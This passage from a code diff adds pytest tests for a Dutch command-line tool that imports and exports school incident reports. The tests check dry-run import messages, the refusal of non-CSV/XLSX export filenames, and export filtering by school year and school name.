+    assert "3 rijen: 2 zouden worden toegevoegd, 0 al aanwezig, 1 geweigerd." in done.stdout
+    assert "proefdraai" in done.stdout
+    assert (
+        "rij 3: geweigerd" in done.stdout and "Platforms: onbekende waarde 'Myspace'" in done.stdout
+    )
+    assert Store(url).count_incidents() == 0
+
+
+def test_cli_export_refuses_another_extension(source, tmp_path):
+    out = tmp_path / "x.txt"
+    done = cli("export", "--db", source.url, "--out", str(out))
+    assert done.returncode != 0
+    assert "kies een bestandsnaam op .csv of .xlsx" in done.stderr
+    assert "Traceback" not in done.stderr
+    assert not out.exists()
+
+
+def test_cli_export_filters_on_year_and_school(source, tmp_path):
+    out = tmp_path / "regenboog.csv"
+    done = cli(
+        "export",
+        "--db",
+        source.url,
+        "--out",
+        str(out),
+        "--year",
+        "2025-2026",
+        "--school",
+        "De Regenboog",
+    )
+    assert done.returncode == 0, done.stderr
+    header, *lines = csv_cells(out)
+    with source.reading() as conn:
+        expected = conn.execute(
+            sa.select(sa.func.count())
+            .select_from(incidents)
+            .where(
+                incidents.c.school == "De Regenboog",
+                incidents.c.reported_on.between(date(2025, 8, 1), date(2026, 7, 31)),
+            )
+        ).scalar_one()
+    assert 0 < expected < 300
+    assert len(lines) == expected
+    assert f"{expected} meldingen in {out}" in done.stdout
+    school, day = header.index("School"), header.index("Datum melding")
+    assert {line[school] for line in lines} == {"De Regenboog"}
+    assert all("2025-08-01" <= line[day] <= "2026-07-31" for line in lines)
